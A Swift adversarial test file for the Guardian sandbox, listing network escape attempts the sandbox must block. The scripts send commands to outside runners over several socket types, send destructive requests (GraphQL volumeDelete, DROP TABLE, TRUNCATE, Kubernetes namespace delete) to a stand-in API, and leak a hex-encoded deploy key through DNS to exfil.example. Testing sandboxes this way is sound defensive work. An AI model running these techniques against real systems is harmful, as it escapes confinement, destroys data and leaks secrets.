import Foundation
import GuardianTestSupport
#if canImport(Glibc)
import Glibc
#endif

/// The network as a transport (shared/THREATS.md, "Making something outside the tree do it" and
/// "The network is a transport"): raw socket syscalls to servers outside the tree, families
/// and protocols Guardian does not carry, UDP, TCP Fast Open, and the volumeDelete mutation
/// written by hand. The servers (helpers/outside.py) run outside the tree in each world, under
/// $SRV ($OUT/srv): a command runner on loopback TCP ($TCPPORT), on a Unix socket
/// ($SRV/runner.sock) and on an abstract one (@$ABSTRACT); one on Unix datagram sockets
/// ($SRV/dgram.sock, @$ABSTRACT-dgram); a UDP listener ($UDPPORT, logging to $SRV/udp.log); a
/// stand-in HTTP API ($APIPORT, logging to $SRV/api.log). The datagram servers work after the
/// sender has gone: those attacks wait a second before looking. The API also listens on this
/// GUARDIAN_TEST_REMOTE_ADDR ($REMOTEADDR:$REMOTEPORT; 127.0.0.1 when unset), which the gateway takes for
/// a remote host (a stream to it is relayed, not a `local:` question). Guardian's gateway port itself is not
/// attacked here: the tree cannot tell it from other loopback listeners without Guardian's
/// /proc entries, and no control could show such a connect working without Guardian (a connect
/// to it is refused by rule `guardian.proxy`: NetworkTests.aConnectToTheGatewayItselfIsRefused
/// tells the tree the port from outside).
extension Attack {
    /// Starts the outside servers for one world. They run in a session of their own with stdio
    /// on /dev/null and every other descriptor closed (they must hold none of the test runner's
    /// pipes), and are killed when the world is done.
    static func outsideServers(_ w: World, dns: Bool = false) throws -> Prepared {
        guard let sources = Helpers.sources else { throw SetupError("the helpers/ resource is missing") }
        let dir = w.out + "/srv"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        let abstract = "guardian-adv-" + UUID().uuidString.prefix(8)
        let servers = try Daemon(["python3", sources + "/outside.py", dir, abstract] + (dns ? ["dns"] : []), environment: w.environment)
        let stop = { servers.stop() }
        let deadline = Date().addingTimeInterval(15)
        while !FileManager.default.fileExists(atPath: dir + "/ready") {
            if Date() > deadline { stop(); throw SetupError("the outside servers never became ready") }
            usleep(20_000)
        }
        func read(_ file: String) -> String {
            ((try? String(contentsOfFile: dir + "/" + file, encoding: .utf8)) ?? "").trimmingCharacters(in: .whitespacesAndNewlines)
        }
        func port(_ name: String) -> String { read(name + ".port") }
        return Prepared(env: ["SRV": dir, "TCPPORT": port("tcp"), "UDPPORT": port("udp"), "APIPORT": port("api"), "ABSTRACT": abstract,
                              "REMOTEADDR": read("remote.addr"), "REMOTEPORT": port("remote")],
                        cleanup: stop)
    }

    /// The command the runners are asked to run: it leaves $OUT/ran behind.
    static let ran = Goal.file("ran")

    /// The mutation of the incident, as a JSON GraphQL request.
    static let volumeDelete = #"{"query":"mutation { volumeDelete(volumeId: \"vol-prod-1\") }"}"#

    static let network: [Attack] = [
        // connect(2) by raw syscall (no libc wrapper) to a command runner on 127.0.0.1 outside
        // the tree: Guardian performs the connect, the stream is not HTTP, the listener is not
        // the tree's — refused, and the event names it.
        Attack(name: "net-raw-connect-loopback-runner", script: #""$H/net" tcp "$TCPPORT" "echo RAN > $OUT/ran""#,
               goal: ran, evidence: .eventNaming("listener"), setup: { try outsideServers($0) }),
        // The same runner by its IPv4-mapped IPv6 address, from an IPv6 socket.
        Attack(name: "net-v4-mapped-loopback-runner", script: #"""
            python3 -c 'import os, socket; s = socket.socket(socket.AF_INET6); s.connect(("::ffff:127.0.0.1", int(os.environ["TCPPORT"]))); s.sendall(("echo RAN > " + os.environ["OUT"] + "/ran\n").encode()); s.shutdown(1); print(s.recv(100))'
            """#, goal: ran, evidence: .eventNaming("listener"), setup: { try outsideServers($0) }),
        // The same runner on a Unix socket, by its path.
        Attack(name: "net-unix-runner-path", script: #""$H/net" unix "$SRV/runner.sock" "echo RAN > $OUT/ran""#,
               goal: ran, evidence: .eventNaming("listener"), setup: { try outsideServers($0) }),
        // Through a symlink planted in the project: decided by who listens, not by the name.
        Attack(name: "net-unix-runner-via-project-symlink", script: #"""
            ln -s "$SRV/runner.sock" ./build.sock && "$H/net" unix ./build.sock "echo RAN > $OUT/ran"
            """#, goal: ran, evidence: .eventNaming("listener"), setup: { try outsideServers($0) }),
        // An abstract socket: no file to decide on, only a name.
        Attack(name: "net-abstract-unix-runner", script: #""$H/net" abstract "$ABSTRACT" "echo RAN > $OUT/ran""#,
               goal: ran, evidence: .eventNaming("listener"), setup: { try outsideServers($0) }),
        // A Unix datagram socket connected to an outside runner's datagram socket (path and
        // abstract), then send(2): the connect is decided by who listens.
        Attack(name: "net-unix-dgram-connect-outside", script: #"""
            "$H/net" dgramconnect "$SRV/dgram.sock" "echo RAN > $OUT/ran"; "$H/net" dgramconnect "@$ABSTRACT-dgram" "echo RAN > $OUT/ran"
            """#, goal: ran, evidence: .eventNaming("listener"), setup: { try outsideServers($0) }),
        // Families and types Guardian does not carry fail at socket(2) in the kernel (as root
        // they open without it).
        Attack(name: "net-socket-packet", script: #""$H/net" socket packet"#,
               goal: .output("OPENED packet"), evidence: .failed("FAIL socket-packet EAFNOSUPPORT")),
        Attack(name: "net-socket-raw-inet", script: #""$H/net" socket raw"#,
               goal: .output("OPENED raw"), evidence: .failed("FAIL socket-raw EPROTONOSUPPORT")),
        Attack(name: "net-socket-vsock", script: #""$H/net" socket vsock"#,
               goal: .output("OPENED vsock"), evidence: .failed("FAIL socket-vsock EAFNOSUPPORT")),
        // A datagram with its own address (sendto) to a non-DNS port outside the tree.
        Attack(name: "net-udp-sendto-outside", script: #""$H/net" udp "$UDPPORT" "DATAGRAM-OUT""#,
               goal: .fileContains("srv/udp.log", "DATAGRAM-OUT"), evidence: .event, setup: { try outsideServers($0) }, settle: 1),
        // A UDP socket connected to that port, then send(2) with no address.
        Attack(name: "net-udp-connect-send-outside", script: #""$H/net" udpconnect "$UDPPORT" "DATAGRAM-OUT""#,
               goal: .fileContains("srv/udp.log", "DATAGRAM-OUT"), evidence: .event, setup: { try outsideServers($0) }, settle: 1),
        // TCP Fast Open connects inside the send: the data would leave with the SYN.
        Attack(name: "net-tcp-fastopen", script: #""$H/net" fastopen "$TCPPORT" "echo RAN > $OUT/ran""#,
               goal: ran, evidence: .failed("FAIL sendto-fastopen EOPNOTSUPP"), setup: { try outsideServers($0) }),
        // The incident's mutation written with raw socket syscalls (no curl, nothing in argv) to
        // a stand-in API on 127.0.0.1 outside the tree, under staging: the API never sees it.
        // A WebSocket terminal outside the tree (a notebook's or an editor's), driven by Node's
        // WebSocket client: the upgrade is refused (its frames are not read), and the event
        // names the listener.
        Attack(name: "net-websocket-terminal-outside", script: #"""
            node --experimental-websocket -e 'const w = new WebSocket("ws://127.0.0.1:" + process.env.APIPORT + "/socket"); w.onopen = () => w.send("echo RAN > " + process.env.OUT + "/ran"); w.onmessage = () => { w.close(); process.exit(0) }; w.onerror = () => process.exit(3)'
            """#, goal: ran, evidence: .eventNaming("listener"), setup: { try outsideServers($0) }),
        Attack(name: "net-graphql-volumedelete-raw-socket", script: #""$H/net" post "$APIPORT" "$VD""#,
               goal: .fileContains("srv/api.log", "volumeDelete"), evidence: .event,
               setup: { w in var p = try outsideServers(w); p.env["VD"] = volumeDelete; return p }, profile: "staging"),
        // The same destruction through other APIs any program can call with a found token:
        // SQL to a database's HTTP query endpoint, a namespace delete to the Kubernetes API
        // server, a statement as a text body (an HTTP SQL interface).
        Attack(name: "net-sql-drop-over-http", script: #"""
            python3 -c 'import json, os, urllib.request as u
            u.urlopen(u.Request("http://127.0.0.1:%s/v1/projects/p/database/query" % os.environ["APIPORT"], data=json.dumps({"query": "DROP TABLE orders_adv"}).encode(), headers={"Content-Type": "application/json"}))'
            """#, goal: .fileContains("srv/api.log", "orders_adv"), evidence: .event, setup: { try outsideServers($0) }, profile: "staging"),
        Attack(name: "net-kubernetes-namespace-delete", script: #"""
            python3 -c 'import os, urllib.request as u
            u.urlopen(u.Request("http://127.0.0.1:%s/api/v1/namespaces/shop_adv" % os.environ["APIPORT"], method="DELETE", headers={"Authorization": "Bearer t"}))'
            """#, goal: .fileContains("srv/api.log", "shop_adv"), evidence: .event, setup: { try outsideServers($0) }, profile: "staging"),
        Attack(name: "net-sql-text-body", script: #"""
            python3 -c 'import os, urllib.request as u
            u.urlopen(u.Request("http://127.0.0.1:%s/?database=default" % os.environ["APIPORT"], data=b"TRUNCATE TABLE t_adv", headers={"Content-Type": "text/plain"}))'
            """#, goal: .fileContains("srv/api.log", "t_adv"), evidence: .event, setup: { try outsideServers($0) }, profile: "staging"),
        // The same mutation sent after 0.6 s of silence to the API on a non-loopback address:
        // silence once made the connection a relayed byte stream, uninspected. Now the
        // server may speak first, but the client's bytes are held until they are seen: an HTTP
        // request line while the server said nothing goes to the inspecting path.
        Attack(name: "net-slow-hello", script: #"""
            python3 -c 'import os, socket, time
            s = socket.create_connection((os.environ["REMOTEADDR"], int(os.environ["REMOTEPORT"])))
            time.sleep(0.6)
            b = os.environ["VD"].encode()
            s.sendall(b"POST /graphql HTTP/1.1\r\nHost: api\r\nContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(b) + b)
            print(s.recv(4096))'
            """#, goal: .fileContains("srv/api.log", "volumeDelete"), evidence: .event,
               setup: { w in var p = try outsideServers(w); p.env["VD"] = volumeDelete; return p }, profile: "staging"),
        // A DNS query over TCP (RFC 7766 framing) to a server of its own choosing on port 53 —
        // the remote address when one is configured — its name carrying data in hex: a stream
        // to port 53 once went out like any byte stream. It reaches Guardian's resolver, which
        // refuses the name without forwarding it.
        Attack(name: "net-dns-over-tcp-exfiltration", script: #"""
            python3 -c 'import os, socket, struct
            name = "6465706c6f792d6b65793a2073656372657421.exfil.example"
            q = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x01\x00\x01"
            s = socket.create_connection((os.environ["REMOTEADDR"], 53), timeout=5)
            s.sendall(struct.pack(">H", len(q)) + q)
            print(s.recv(512))'
            """#, goal: .fileContains("srv/dns.log", "exfil"), evidence: .event,
               setup: { w in
                   let p = try outsideServers(w, dns: true)
                   guard FileManager.default.fileExists(atPath: w.out + "/srv/dns.port") else {
                       p.cleanup()
                       throw SetupError("port 53 could not be bound for the outside DNS server (not root)")
                   }
                   return p
               }),
        // sendto(2) with an address on an unconnected Unix datagram socket: decided by who is
        // bound to the receiving socket (path or abstract name), as a connect is.
        Attack(name: "net-unix-dgram-sendto-outside", script: #""$H/net" dgram "$SRV/dgram.sock" "echo RAN > $OUT/ran""#,
               goal: ran, evidence: .eventNaming("listener"), setup: { try outsideServers($0) }, settle: 1),
        Attack(name: "net-abstract-dgram-sendto-outside", script: #""$H/net" dgram "@$ABSTRACT-dgram" "echo RAN > $OUT/ran""#,
               goal: ran, evidence: .eventNaming("listener"), setup: { try outsideServers($0) }, settle: 1),
        // sendmsg(2) with msg_name on an unconnected UDP socket: BPF cannot see the name, so
        // every sendmsg is performed by Guardian and decided like a sendto.
        Attack(name: "net-udp-sendmsg-outside", script: #""$H/net" udpmsg "$UDPPORT" "DATAGRAM-OUT""#,
               goal: .fileContains("srv/udp.log", "DATAGRAM-OUT"), evidence: .event, setup: { try outsideServers($0) }, settle: 1),
        // The same with sendmmsg(2).
        Attack(name: "net-udp-sendmmsg-outside", script: #""$H/net" udpmmsg "$UDPPORT" "DATAGRAM-OUT""#,
               goal: .fileContains("srv/udp.log", "DATAGRAM-OUT"), evidence: .event, setup: { try outsideServers($0) }, settle: 1),
        // sendmmsg mixing destinations: a DNS query (allowed: it goes to Guardian's resolver),
        // then a datagram to the outside listener; the program resends what was not sent.
        Attack(name: "net-udp-sendmmsg-mixed", script: #""$H/net" udpmix "$UDPPORT" "DATAGRAM-OUT""#,
               goal: .fileContains("srv/udp.log", "DATAGRAM-OUT"), evidence: .event, setup: { try outsideServers($0) }, settle: 1),
        // sendmsg(2) with msg_name to the outside runner's Unix datagram socket, by path and by
        // abstract name.
        Attack(name: "net-unix-dgram-sendmsg-outside", script: #"""
            "$H/net" dgrammsg "$SRV/dgram.sock" "echo RAN > $OUT/ran"; "$H/net" dgrammsg "@$ABSTRACT-dgram" "echo RAN > $OUT/ran"
            """#, goal: ran, evidence: .eventNaming("listener"), setup: { try outsideServers($0) }, settle: 1),
        // sendmmsg from one Unix datagram socket to the tree's own socket and to the outside
        // runner: the first goes, the second is refused.
        Attack(name: "net-unix-dgram-sendmmsg-mixed", script: #"""
            "$H/net" dgrammix "$OUT/own.sock" "$SRV/dgram.sock" "echo RAN > $OUT/ran"
            """#, goal: ran, evidence: .eventNaming("listener"), setup: { try outsideServers($0) }, settle: 1),
    ]

    /// Attacks that get through today. Not in the default list (the suite must stay green); run
    /// them by name with ADVERSARIAL_ONLY (each must then report BYPASS until Guardian closes it,
    /// when it moves to `network`).
    static var knownBypasses: [Attack] { [] }
}
